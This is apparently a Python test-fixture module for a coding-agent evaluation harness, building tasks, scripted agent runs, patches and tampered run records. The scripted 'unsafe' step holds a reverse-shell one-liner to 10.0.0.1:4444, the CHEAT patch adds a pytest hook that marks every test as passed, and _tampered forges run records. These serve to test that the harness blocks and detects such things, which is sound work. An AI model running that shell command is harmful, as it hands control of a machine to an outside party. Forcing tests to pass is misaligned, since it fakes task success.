"""The folder in which recorded commands run: valid and invalid tasks, input files, recorded and tampered runs."""

from __future__ import annotations

import json
import shlex
import shutil
import tarfile
from pathlib import Path
from typing import Any

import yaml

from tests.authoring.conftest import BEFORE, FIX, put
from tests.execution.conftest import Ab
from tests.execution.tasks import PATCH, TASK, make_suite, make_task
from tests.workspace.reference_git import repository

ARCHIVE = Path(__file__).parents[1] / "data" / "recorded-runs.tar.xz"

BAD_TASK = """\
id: bad task
suite: refused
statment: The key is misspelt.
repo: {path: nowhere, url: x}
environment: {timeout_sec: soon, mem_limit_mb: -1}
oracle:
  checks:
    - {id: a, layer: unit, command: "true", parser: guess}
    - {id: a, layer: unit, command: "true"}
budget: {usd: 1}
budget: {usd: 2}
"""

SCRIPTS: dict[str, list[dict[str, object]]] = {
    "loops": [{"run": {"command": "ls"}}] * 12,
    "unsafe": [{"run": {"command": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}}],
    "sudo": [{"run": {"command": "sudo ls"}}, {"apply_patch": {"unified_diff": PATCH}}],
    "spent": [{"run": {"command": f"ls {number}"}} for number in range(4)],
    "wrong": [{"apply_patch": {"unified_diff": PATCH.replace("42", "43")}}],
}

CHEAT = """\
diff --git a/conftest.py b/conftest.py
new file mode 100644
--- /dev/null
+++ b/conftest.py
@@ -0,0 +1,5 @@
+import pytest
+@pytest.hookimpl(wrapper=True)
+def pytest_runtest_makereport():
+    report = yield
+    report.outcome = "passed"; return report
"""

# Name of the case -> command. They run once, in this order: later ones use what earlier ones left.
EXECUTED: dict[str, str] = {
    "run-noop": "run --suite tiny --agent noop --out runs/noop",
    "run-reference": "run --suite tiny --agent reference --repeats 2 --out runs/reference",
    "run-scripted": "run --suite stopped --agent scripted --script scripts --out runs/scripted",
    "run-command-pass": "run-task --task tasks/tiny/one --agent command --agent-command 'echo 42 > answer.txt' --out runs/one",
    "run-command-crash": "run-task --task tasks/tiny/one --agent command --agent-command 'echo broken >&2; exit 3' --out runs/crash",
    "run-fail-on": "run --suite tiny --agent noop --fail-on 'pass_rate<0.5' --out runs/fail-on",
    "run-setup-fails": "run-task --task tasks/invalid/setup --agent noop --out runs/setup",
    "run-baseline-passes": "run-task --task tasks/invalid/solved --agent noop --out runs/solved",
    "run-agent-timeout": "run-task --task tasks/slow/slow --agent command --agent-command 'sleep 60' --out runs/slow",
    "run-no-script": "run --suite tiny --agent scripted --script nowhere --out runs/no-script",
    "dry-run": "run --suite tiny --agent noop --repeats 3 --dry-run --out runs/noop",
    "dry-run-nothing-known": "run --suite tiny --agent noop --dry-run --out runs/none",
    "resume-finished": "run --resume runs/noop/*",
    "resume-changed": "run --resume runs/noop/* --agent reference",
    "resume-foreign": "run --resume tasks",
    "grade-patch": "grade --task tasks/tiny/one --patch good.patch --out runs/graded",
    "grade-bad-patch": "grade --task tasks/tiny/one --patch bad.patch --out runs/graded-bad",
    "grade-predictions": "grade --task tasks/tiny --predictions predictions.jsonl --report report.json --out runs/predictions",
    "show-attempt-fresh": "show runs/one/*",
    "show-crash": "show runs/crash/*",
    "show-run-fresh": "show runs/scripted/*",
    "show-loops": "show runs/scripted/* --task loops",
    "show-bad-patch": "show runs/graded-bad/*",
    "show-setup-fails": "show runs/setup/*",
    "verify-fresh": "verify runs/scripted/*",
    "replay-agrees": "replay runs/reference/*",
    "replay-nothing": "replay runs/setup/*",
    "replay-unknown-task": "replay runs/noop/* --task three",
    "validate": "validate-tasks --suite tiny",
    "validate-invalid": "validate-tasks --suite invalid",
    "validate-json": "validate-tasks --suite invalid --json",
    "init": "init tasks/mine",
    "init-again": "init tasks/mine",
    "plugin-new": "plugin new scorer my_scorer",
    "new": "task new tasks/mine/other",
    "new-again": "task new tasks/mine/other",
    "lock": "task lock tasks/mine/median-even",
    "lock-no-tests": "task lock tasks/tiny/one",
    "audit": "task audit tasks/mine/median-even --variants 4",
    "audit-weak": "task audit tasks/weak/half --variants 4 --min-kill-rate 1",
    "run-init-task": "run-task --task tasks/mine/median-even --agent noop --out runs/mine",
    "grade-cheat": "grade --task tasks/mine/median-even --patch cheat.patch --out runs/cheat",
    "show-cheat": "show runs/cheat/*",
    "from-commit": "task from-commit calc HEAD --suite-dir tasks/calc --no-pin",
    "from-commit-no-tests": "task from-commit calc HEAD~1 --suite-dir tasks/calc",
    "harvest": "task harvest calc --name calc --examine 5 --heldout 0 --no-pin",
    "screen": "task screen --suite tiny --repeats 2",
    "export-swebench": "task export swebench tasks/tiny",
    "import-swebench": "task import swebench rows.jsonl",
    "cache-ls": "cache ls",
    "cache-prune": "cache prune --max-gb 0",
}


def write_stage(folder: Path) -> None:
    """Write tasks, files and recorded runs."""
    folder.mkdir()
    _tasks(folder / "tasks")
    _files(folder)
    with tarfile.open(ARCHIVE) as archive:
        archive.extraction_filter = getattr(tarfile, "data_filter", None)
        archive.extractall(folder / "recorded")  # noqa: S202 - an archive of our own
    _tampered(folder)


def run_commands(folder: Path, ab: Ab) -> dict[str, list[Any]]:
    """Run EXECUTED in order. Returns [exit code, stdout, stderr] of each."""
    outputs: dict[str, list[Any]] = {}
    for name, command in EXECUTED.items():
        ran = ab(*arguments(command, folder))
        outputs[name] = [ran.code, ran.stdout, ran.stderr]
    return outputs


def arguments(command: str, folder: Path) -> list[str]:
    """Split a command line; a `*` stands for the only run in a folder."""
    words = []
    for word in shlex.split(command):
        if word.endswith("/*"):
            (only,) = (folder / word.removesuffix("/*")).iterdir()
            words.append(str(only.relative_to(folder)))
        else:
            words.append(word)
    return words


def _tasks(tasks: Path) -> None:
    make_suite(tasks, "one", "two")
    for name in SCRIPTS:
        budget = "budget: {tool_calls: 2}\n" if name == "spent" else ""
        make_task(tasks / "stopped" / name, text=TASK.format(id=name).replace("tiny", "stopped"), more=budget)
    invalid = {"solved": "", "setup": "setup: {commands: ['echo no compiler >&2; exit 3']}\n", "reference": ""}
    for name, more in invalid.items():
        make_task(tasks / "invalid" / name, text=TASK.format(id=name).replace("tiny", "invalid"), more=more)
    (tasks / "invalid" / "solved" / "repo" / "answer.txt").write_text("42\n")
    (tasks / "invalid" / "reference" / "reference.patch").write_text(PATCH.replace("42", "43"))
    slow = TASK.format(id="slow").replace("tiny", "slow").replace("{timeout_sec: 120,", "{timeout_sec: 1,")
    make_task(tasks / "slow" / "slow", text=slow)
    half = make_task(tasks / "weak" / "half", text=_weak_task())
    (half / "repo" / "src" / "mod.py").write_text("def half(value):\n    return value\n")
    (half / "reference.patch").write_text(
        "--- a/src/mod.py\n+++ b/src/mod.py\n@@ -1,2 +1,4 @@\n def half(value):\n-    return value\n"
        "+    if value < 0:\n+        return -(-value // 2)\n+    return value // 2\n"
    )
    (tasks / "refused" / "bad").mkdir(parents=True)
    (tasks / "refused" / "bad" / "task.yaml").write_text(BAD_TASK)
    (tasks / "refused" / "broken").mkdir()
    (tasks / "refused" / "broken" / "task.yaml").write_text("id: [unclosed\n")


def _weak_task() -> str:
    check = "python3 -c 'import sys; sys.path.append(\\\"src\\\"); import mod; assert mod.half(4) == 2'"
    return TASK.format(id="half").replace("tiny", "weak").replace("grep -qx 42 answer.txt", check)


def _files(folder: Path) -> None:
    (folder / "scripts").mkdir()
    for name, steps in SCRIPTS.items():
        (folder / "scripts" / f"{name}.yaml").write_text(yaml.safe_dump({"steps": steps}))
    (folder / "good.patch").write_text(PATCH)
    (folder / "bad.patch").write_text(PATCH.replace("-41", "-40"))
    (folder / "cheat.patch").write_text(CHEAT)
    lines = [{"instance_id": "one", "model_patch": PATCH}, {"instance_id": "two", "model_patch": "nonsense"}]
    (folder / "predictions.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    (folder / "rows.jsonl").write_text('{"instance_id": "a__b-1", "repo": "a/b"}\n')
    (folder / "empty.jsonl").write_text("")
    (folder / "bad.jsonl").write_text("{oops\n")
    (folder / "weights.yaml").write_text("{minimal: 0.6, trace: 0.2, maintainability: 0.2}\n")
    (folder / "bad-weights.yaml").write_text("{minimal: heavy}\n")
    (folder / "caps.yaml").write_text("{tool_calls: 3}\n")
    (folder / "bad-caps.yaml").write_text("{calls: 3}\n")
    (folder / "gate.yaml").write_text(
        "rate: contract\nmax_drop: 0.1\nnon_inferiority: {margin: 0.1, alpha: 0.05}\nmin_pairs: 3\n"
    )
    (folder / "gate-drop.yaml").write_text("max_drop: 0.05\n")
    (folder / "retention.yaml").write_text("full_days: 0\nrules:\n  - {variant: reference, keep: full}\n")
    (folder / "bad-gate.yaml").write_text("rate: speed\nmax_dorp: 1\n")
    (folder / "results.csv").write_text(_results())
    (folder / "same.csv").write_text(_same())
    (folder / "bad.csv").write_text("task,method,repeat,outcome\nx,a,1,maybe\nx,a,1,pass\n")
    (folder / "no-columns.csv").write_text("name,verdict\nx,pass\n")
    (folder / "answers.yaml").write_text("answers: [{txt: hello}]\n")
    calc = repository(folder / "calc")
    put(calc, BEFORE, "Begin")
    put(calc, {"README": "half\n"}, "Describe it")
    put(calc, FIX, "Halve odd numbers")


def _results() -> str:
    """Two methods on 30 tasks: b passes 10 tasks more."""
    rows = [f"t{number},a,1,{'pass' if number < 12 else 'fail'},0.5" for number in range(30)]
    rows += [f"t{number},b,1,{'pass' if number < 22 else 'fail'},0.7" for number in range(30)]
    return "\n".join(["task,method,repeat,outcome,cost", *rows]) + "\n"


def _same() -> str:
    """Two methods that pass the same 200 of 220 tasks, with repeats."""
    rows = [
        f"t{number},{method},{repeat},{'pass' if number < 200 else 'fail'}"
        for number in range(220)
        for method in "ab"
        for repeat in (1, 2)
    ]
    return "\n".join(["task,method,repeat,outcome", *rows]) + "\n"


def _tampered(folder: Path) -> None:
    changed = folder / "tampered" / "record"
    shutil.copytree(folder / "recorded" / "demo-partial", changed)
    records = changed / "attempts.jsonl"
    records.write_text(records.read_text().replace('"passed":false', '"passed":true', 1))
    removed = folder / "tampered" / "patch"
    shutil.copytree(folder / "recorded" / "demo-partial", removed)
    (removed / "tasks" / "toy-median" / "diffs" / "final.patch").unlink()
    cut = folder / "tampered" / "cut"
    shutil.copytree(folder / "recorded" / "demo-partial", cut)
    log = cut / "events.jsonl"
    log.write_text("".join(log.read_text().splitlines(keepends=True)[:-1]))
    shutil.copytree(folder / "recorded" / "demo-partial", folder / "reduced")
    shutil.copytree(folder / "recorded" / "demo-partial", folder / "signed")
    shutil.copytree(folder / "recorded" / "demo-reference", folder / "signed-reference")
    shutil.copytree(folder / "recorded" / "demo-partial", folder / "reviewed")
